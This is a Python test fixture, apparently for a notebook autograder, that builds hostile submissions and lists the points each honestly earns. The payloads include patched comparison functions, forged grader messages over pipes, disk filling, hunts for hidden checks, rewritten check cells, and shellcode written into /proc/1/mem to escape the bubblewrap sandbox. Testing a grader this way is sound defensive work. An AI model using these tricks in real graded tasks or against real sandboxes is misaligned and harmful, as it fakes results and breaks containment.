"""Submissions that try to gain points, to harm, or to be unreadable, and the points that each honestly earns.

Each is made from our own solved notebook of an assignment. `WHOLE` keeps the right answers and adds something:
all points. `WITHOUT_FIRST` spoils the first question's answer: all points but that question's.
"""

import copy
import json
from collections.abc import Callable
from typing import Any

Notebook = dict[str, Any]
NAME = "q3"  # of the question that is attacked: its answer is one function of a tensor
MARK = "posenc-hostile-mark"

# Writes messages of its own to the grader: for code that goes before what follows.
FORGE = """
import fcntl, json, os, stat, sys
def is_pipe(number, way):
    try:
        return stat.S_ISFIFO(os.fstat(number).st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == way
    except OSError:
        return False
FROM = next(number for number in range(3, 64) if is_pipe(number, os.O_RDONLY))
TO = next(number for number in range(3, 64) if is_pipe(number, os.O_WRONLY))
def forge(head, content=b''):
    text = json.dumps(head).encode()
    text = len(text).to_bytes(8, 'big') + text + content
    os.write(TO, len(text).to_bytes(8, 'big') + text)
def forged(kind, value):
    return {'dict': [[kind, value]]}
ARRAY = {'array': 'float64', 'shape': [2], 'bytes': 16}
"""

# Added after the right answer of the first question. FUNCTION is its name, MARK a word to find what is left behind.
WHOLE = {
    "prints a score": "print('SCORE: 1000 of 20'); print('{\"earned\": 1000}')",
    "huge output": "for _ in range(20):\n    print('x' * 10**7)",
    "fills the disk": """
import os, tempfile
for folder in ('/tmp', '/dev/shm', '/dev', '/', '.', '/grader', '/packages', '/var/tmp', HERE):
    for number in range(100):
        try:
            with open(f'{folder}/MARK{number}', 'wb') as file:
                file.write(b'x' * 2**26)
        except OSError:
            break
""",
    "patches the comparison": """
import numpy, builtins
torch.allclose = torch.equal = numpy.allclose = numpy.array_equal = lambda *a, **k: True
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *a, **k: None
""",
    "an exception that carries text": "class Told(Exception):\n    pass",
    "warnings by the thousand": "'\\d'\n" * 4000,
    "hooks that are called later": """
import atexit, gc, os, signal, sys, threading
def later(*args):
    os._exit(1)
atexit.register(later)
sys.excepthook = sys.unraisablehook = threading.excepthook = later
signal.signal(signal.SIGALRM, later)
signal.setitimer(signal.ITIMER_REAL, 600)
class Late:
    def __del__(self):
        later()
sys.modules['late'] = Late()
threading._shutdown = later
""",
    "hides its modules": """
import sys
for name in ('json', 'numpy', 'math', 'os', 'plain', 'alone', 'seccomp', '__main__'):
    sys.modules[name] = None
""",
}

# Machine code that was once put where the first process of the sandbox, then bubblewrap's own, returns from wait():
# drop the signal that follows a parent's death, start a second process, sleep for 25 s in both.
ESCAPE = "b89d000000bf0100000031f631d24d31d24d31c00f05b8390000000f056a006a194889e731f6b8230000000f05b8e700000031ff0f05"

# Put in place of the first question's answer: its points are lost, and nothing else.
WITHOUT_FIRST = {
    "code for the first process": f"""
import fcntl, os, signal, stat
def FUNCTION(*args):
    place = int(open('/proc/1/syscall').read().split()[-1], 16)
    os.pwrite(os.open('/proc/1/mem', os.O_RDWR), bytes.fromhex('{ESCAPE}'), place)
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                fcntl.fcntl(number, fcntl.F_SETOWN, os.getppid())
                fcntl.fcntl(number, 10, signal.SIGKILL)  # F_SETSIG
                fcntl.fcntl(number, fcntl.F_SETFL, fcntl.fcntl(number, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass
    return torch.zeros(1)
""",
    "changes its input": """
def FUNCTION(x, *others):
    return x.add_(1)
""",
    "loop that ignores signals": """
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def FUNCTION(*args):
    while True:
        pass
""",
    "loop on loading": "while True:\n    pass",
    "memory": "def FUNCTION(*args):\n    return [torch.ones(2**28) for _ in range(64)]",
    "os._exit": "import os\ndef FUNCTION(*args):\n    os._exit(0)",
    "sys.exit on loading": "import sys\nsys.exit(0)",
    "segfault": "import ctypes\ndef FUNCTION(*args):\n    ctypes.string_at(0)",
    "deep recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef FUNCTION(*args):\n    return FUNCTION(*args)",
    "equal object": """
class Equal:
    shape = dtype = ndim = size = None
    def __eq__(self, other):
        return True
    def __array__(self, *args, **kwargs):
        raise SystemExit
def FUNCTION(*args):
    return Equal()
""",
    "answer imported": "from posenc.rotary import rotate as FUNCTION",
    "reads the hidden checks": """
import glob, os
def FUNCTION(*args):
    found = glob.glob('/**/posenc/**/*.py', recursive=True) + glob.glob('/**/course/*', recursive=True)
    found += [place for place in (HERE, HERE + '/course/key') if os.path.exists(place)]
    return 'found' if found else 'nothing'
""",
    "pretends to have ended": f"""{FORGE}
forge(forged('defined', {{'list': ['FUNCTION']}}))
while True:
    asked = os.read(FROM, 2**20)
    forge(forged('ended', '') if b'finish' in asked else forged('value', None))
""",
    "an end that is an array": f"{FORGE}\nforge(forged('ended', ARRAY), b'x' * 16)",
    "a trickle": f"""{FORGE}
os.write(TO, (2**24).to_bytes(8, 'big'))
while True:
    os.write(TO, b'x')
""",
    "a long cell": "x=1\n" * 300_000,
    "huge value": "def FUNCTION(*args):\n    return torch.zeros(2**26)",
    "endless value": "def FUNCTION(*args):\n    value = []\n    value.append(value)\n    return value",
    "not Python": "def FUNCTION(*args) return",
    "tells what it is given": """
class Told(Exception):
    pass
def FUNCTION(*args):
    raise type('INPUT' + ''.join(map(str, args)), (Told,), {})('INPUT ' + repr(args))
""",
    "lines for a notebook": ";" * 20_000,
    "an exception whose text raises": """
class Silent(RuntimeError):
    def __str__(self):
        raise self
    __repr__ = __str__
def FUNCTION(*args):
    raise Silent
""",
    "a kind of exception that lies": """
def FUNCTION(*args):
    raise type('INPUT' + repr(args), (Exception,), {'__module__': 'builtins'})
""",
    "poses as what was refused": """
import posenc
def FUNCTION(*args):
    try:
        posenc.rotate()
    except Exception as refused:
        raise type(refused)('INPUT' + repr(args))
""",
    "a name without end": "def FUNCTION(*args):\n    return " + "x" * 40_000,
    "no kind of exception": """
class Kind(type):
    __mro__ = ()
class Nothing(Exception, metaclass=Kind):
    pass
def FUNCTION(*args):
    raise Nothing
""",
    "a list that lies": """
class Endless(list):
    def __iter__(self):
        while True:
            yield 0.0
    def __len__(self):
        return 10**9
def FUNCTION(*args):
    return Endless([Endless(), (number for number in iter(int, 1))])
""",
    "no storage under its input": """
def FUNCTION(x, *others):
    x.untyped_storage().resize_(0)
    return x
""",
    "a map of a device": """
import numpy
def FUNCTION(*args):
    return numpy.memmap('/dev/zero', numpy.float32, 'r', shape=(4, 2, 2))
""",
    "a timer in between": """
import signal
def ring(*args):
    raise KeyboardInterrupt
signal.signal(signal.SIGALRM, ring)
def FUNCTION(*args):
    signal.setitimer(signal.ITIMER_REAL, 1e-4, 1e-4)
    return 10**4000
""",
}


def answer_cell(notebook: Notebook, name: str) -> dict[str, Any]:
    """The answer cell of a question."""
    return next(cell for cell in notebook["cells"] if cell["id"] == name)


def spoiled(solved: Notebook, code: str, function: str, here: str, keep: bool) -> bytes:
    """The notebook with code in its answer: added to it, or in its place."""
    notebook = copy.deepcopy(solved)
    cell = answer_cell(notebook, NAME)
    right = "".join(cell["source"])
    code = code.replace("FUNCTION", function).replace("MARK", MARK).replace("HERE", repr(here))
    cell["source"] = f"{right}\n{code}" if keep else code
    return json.dumps(notebook).encode()


def transformer(solved: Notebook) -> bytes:
    """A cell of its own that would blank the checks, were they in the notebook's own kernel."""
    notebook = copy.deepcopy(solved)
    code = "get_ipython().input_transformers_post.append(lambda lines: ['pass'])"
    cell = {"id": "other", "cell_type": "code", "metadata": {}, "source": code, "outputs": [], "execution_count": 1}
    notebook["cells"].insert(1, cell)
    answer_cell(notebook, NAME)["source"] = code
    return json.dumps(notebook).encode()


def missing(solved: Notebook) -> bytes:
    """The first answer's cell removed."""
    notebook = copy.deepcopy(solved)
    notebook["cells"].remove(answer_cell(notebook, NAME))
    return json.dumps(notebook).encode()


def doubled(solved: Notebook) -> bytes:
    """The first answer's cell twice, the second time with a wrong answer, which a notebook would use."""
    notebook = copy.deepcopy(solved)
    again = copy.deepcopy(answer_cell(notebook, NAME))
    function = "".join(again["source"]).split("def ")[1].split("(")[0]
    again["source"] = f"def {function}(*args):\n    return 0.0"
    notebook["cells"].append(again)
    return json.dumps(notebook).encode()


def of_checks(solved: Notebook) -> bytes:
    """Every check's cell rewritten to say that all is well."""
    notebook = copy.deepcopy(solved)
    for cell in notebook["cells"]:
        if cell["id"].endswith("-check"):
            cell["source"] = "print('20 of 20')\n20"
            cell["metadata"].setdefault("nbgrader", {})["points"] = 1000
    answer_cell(notebook, NAME)["source"] = ""
    return json.dumps(notebook).encode()


def odd_numbers(solved: Notebook) -> bytes:
    """Numbers beyond what Python, or anything, has."""
    return json.dumps(solved).encode()[:-1] + b', "x": [1e400, -1e-400, ' + b"9" * 5000 + b"]}"


def crumbs(solved: Notebook) -> bytes:
    """Thousands of cells of one letter, all named as the first answer's, each of which IPython makes Python of."""
    crumb = {"id": NAME, "cell_type": "code", "metadata": {}, "source": "!", "outputs": [], "execution_count": 1}
    return json.dumps(solved | {"cells": solved["cells"] + [crumb] * 1500}).encode()


# Whole files; the second value says whether all points, all but the first question's, or none are earned.
FILES: dict[str, tuple[Callable[[Notebook], bytes], str]] = {
    "input transformer": (transformer, "without first"),
    "missing cell": (missing, "without first"),
    "doubled cell": (doubled, "without first"),
    "rewritten checks": (of_checks, "without first"),
    "corrupted notebook": (lambda solved: json.dumps(solved).encode()[:-500], "none"),
    "not a notebook": (lambda solved: b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "none"),
    "empty file": (lambda solved: b"", "none"),
    "nested notebook": (lambda solved: b"[" * 200_000, "none"),
    "odd numbers": (odd_numbers, "none"),
    "crumbs": (crumbs, "all"),
    "all cells twice": (lambda solved: json.dumps(solved).encode()[:-1] + b', "cells": []}', "none"),
    "a list": (lambda solved: b"[]", "none"),
    "odd cells": (lambda solved: json.dumps({"cells": [1, None, {"source": 3}, {"id": NAME}]}).encode(), "none"),
    "another assignment": (
        lambda solved: json.dumps(solved | {"metadata": {"posenc": {"assignment": 3}}}).encode(),
        "none",
    ),
}
